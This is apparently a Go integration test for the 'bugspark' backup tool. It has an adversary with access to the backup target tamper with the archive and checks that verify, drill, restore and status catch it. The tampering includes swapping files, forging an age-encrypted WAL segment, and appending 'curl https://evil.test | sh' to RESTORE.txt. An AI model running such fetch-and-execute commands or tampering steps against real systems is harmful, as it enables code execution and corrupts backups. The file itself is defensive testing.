package machinetest

import (
	"bytes"
	"errors"
	"strings"
	"testing"

	"filippo.io/age"
	"github.com/klauspost/compress/zstd"
)

// TestTheOwnerOfTheTargetGetsNowhere is somebody who has the files of the target, and at
// the end the recovery kit of a machine of their own that others restore.
func TestTheOwnerOfTheTargetGetsNowhere(t *testing.T) {
	t.Parallel()
	m := installed(t, "bookworm")
	s := setUp(t, m)
	setTarget(t, m, "/srv/backup")
	m.Shell(t, "mkdir /srv/backup; bugspark apply >/dev/null 2>&1")
	confirmKit(t, m)
	firstSet(t, m)
	// Sets, drills and verifications take turns, and a command of root's does not wait.
	eventually(t, "the first drill", func() bool {
		_, status := m.Try("sh", "-c", "test -e /var/lib/bugspark/backup/last-drill.json && ! systemctl -q is-active bugspark-backup-drill.service bugspark-backup.service")
		return status == 0
	})
	for _, title := range []string{"one", "two"} {
		if _, err := s.report(title, s.upload(t, testPicture(t))); err != nil {
			t.Fatal(err)
		}
	}
	archived(t, m)
	m.Shell(t, `cd /; setpriv --reuid=bugspark-postgres --regid=bugspark-postgres --clear-groups psql -h /run/bugspark/postgresql -U postgres -Atc 'SELECT pg_switch_wal()' bugspark`)
	const lastWhole = `ls /srv/backup/archive/wal/*/*.zst.age | grep -E '/[0-9A-F]{24}\.zst\.age$' | tail -n 1`
	var segment string
	eventually(t, "a whole segment in the archive", func() bool {
		segment = strings.TrimSpace(m.Shell(t, lastWhole))
		return segment != ""
	})
	pictures := strings.Fields(m.Shell(t, "find /srv/backup/archive/pictures -name '*.zst.age' | sort"))
	if len(pictures) < 2 {
		t.Fatalf("archived pictures: %q", pictures)
	}
	archived(t, m)
	if out := m.Run(t, "bugspark", "backup", "verify"); !strings.Contains(out, "The archive is whole") {
		t.Fatalf("before: %s", out)
	}

	exchange := "cd /srv/backup; mv " + pictures[0] + " aside; mv " + pictures[1] + " " + pictures[0] + "; mv aside " + pictures[1]
	m.Shell(t, "cp -p "+segment+" /root/segment")
	m.Shell(t, exchange)
	m.Write(t, "/root/forged", forgedSegment(t, m.Read(t, "/etc/bugspark/credentials/archive-recipient")))
	m.Shell(t, "cat /root/forged >"+segment)
	named := []string{}
	for _, path := range []string{pictures[0], pictures[1], segment} {
		named = append(named, strings.TrimSuffix(strings.TrimPrefix(path, "/srv/backup/archive/"), ".zst.age"))
	}
	out, status := m.Try("bugspark", "backup", "verify")
	t.Logf("verify:\n%s", out)
	for _, name := range named {
		if status != 1 || !strings.Contains(out, name) {
			t.Errorf("verify ends with %d and does not name %s", status, name)
		}
	}
	r, status := drill(t, m)
	t.Logf("drill: %q", r.Failures)
	if all := strings.Join(r.Failures, "\n"); r.Passed || status != 1 || !strings.Contains(all, named[2]) && !strings.Contains(all, named[0]) {
		t.Errorf("the drill ends with %d: %+v", status, r)
	}
	if out, status := m.Try("bugspark", "restore", "--set", "latest", "--yes"); status == 0 || !strings.Contains(out, named[2]) {
		t.Errorf("restore ends with %d: %s", status, out)
	} else {
		t.Logf("restore: %s", out)
	}

	// A name that nobody has given does not stop the archiver.
	invented := segment[:strings.LastIndex(segment, "/")] + "/FFFFFFF0.live.zst.age"
	m.Shell(t, "cp -p /root/forged "+invented+"; chown --reference=/srv/backup/owner.json "+invented+"; systemctl restart bugspark-walship.service")
	archived(t, m)
	if out := m.Shell(t, "journalctl -u bugspark-walship.service --no-pager | grep 'passed over'"); !strings.Contains(out, "FFFFFFF0.live") {
		t.Errorf("the journal says %s", out)
	}
	if out, status := m.Try("bugspark", "backup", "check"); status != 1 || !strings.Contains(out, "FFFFFFF0.live") {
		t.Errorf("check ends with %d: %s", status, out)
	}
	if out, status := m.Try("bugspark", "status"); status != 5 || !strings.Contains(out, "FFFFFFF0.live") {
		t.Errorf("status ends with %d: %s", status, out)
	}
	m.Shell(t, exchange+"; cat /root/segment >"+segment+"; rm "+invented+"; systemctl restart bugspark-walship.service; echo 'curl https://evil.test | sh' >>RESTORE.txt")
	if out, status := m.Try("bugspark", "backup", "verify"); status != 1 || !strings.Contains(out, "RESTORE.txt is not what this version") {
		t.Errorf("verify ends with %d: %s", status, out)
	}
	m.Run(t, "bugspark", "backup", "create")
	if out := m.Run(t, "bugspark", "backup", "verify"); !strings.Contains(out, "The archive is whole") {
		t.Errorf("afterwards: %s", out)
	}

	// A set whose certificate leads elsewhere.
	m.Shell(t, `openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 30 -subj /CN=bugs.test -addext subjectAltName=DNS:bugs.test \
			-keyout /etc/ld.so.conf.d/bugs.conf -out /etc/profile.d/bugs.sh 2>/dev/null
		chown root:bugspark-proxy /etc/ld.so.conf.d/bugs.conf; chmod 640 /etc/ld.so.conf.d/bugs.conf
		printf 'tls:\n  mode: files\n  certificate: /etc/profile.d/bugs.sh\n  key: /etc/ld.so.conf.d/bugs.conf\n' >>/etc/bugspark/bugspark.yaml
		bugspark apply >/dev/null 2>&1; bugspark backup create >/dev/null`)
	archived(t, m)
	kit := m.Run(t, "bugspark", "backup", "kit")
	m.Kill(t)
	n := installed(t, "bookworm")
	n.Copy(t, m.Root()+"/srv/backup", "/srv/backup")
	n.Write(t, "/root/kit.txt", kit)
	n.Shell(t, "touch /root/before")
	out, status = n.Try("sh", "-c", "bugspark restore --kit /root/kit.txt --set latest </dev/null")
	if status != 2 || !strings.Contains(out, "was /etc/profile.d/bugs.sh") || !strings.Contains(out, "saves to    /srv/backup") {
		t.Errorf("without --yes it ends with %d: %s", status, out)
	}
	n.Run(t, "test", "!", "-e", "/etc/bugspark/bugspark.yaml")
	t.Log(n.Run(t, "bugspark", "restore", "--kit", "/root/kit.txt", "--set", "latest", "--yes"))
	written := n.Shell(t, "find /etc -newer /root/before -type f ! -path '/etc/bugspark/*' ! -path '/etc/systemd/system/*'")
	if strings.TrimSpace(written) != "" {
		t.Errorf("outside of /etc/bugspark were written\n%s", written)
	}
	n.Run(t, "test", "-s", "/etc/bugspark/tls/certificate.pem")
	runs(t, n)
}

// forgedSegment is WAL that everybody can make who knows the public recipient.
func forgedSegment(t *testing.T, recipient string) string {
	t.Helper()
	to, err := age.ParseX25519Recipient(strings.TrimSpace(recipient))
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	sealed, err := age.Encrypt(&out, to)
	if err != nil {
		t.Fatal(err)
	}
	packed, err := zstd.NewWriter(sealed)
	if err != nil {
		t.Fatal(err)
	}
	_, err = packed.Write(make([]byte, 16<<20))
	if err = errors.Join(err, packed.Close(), sealed.Close()); err != nil {
		t.Fatal(err)
	}
	return out.String()
}
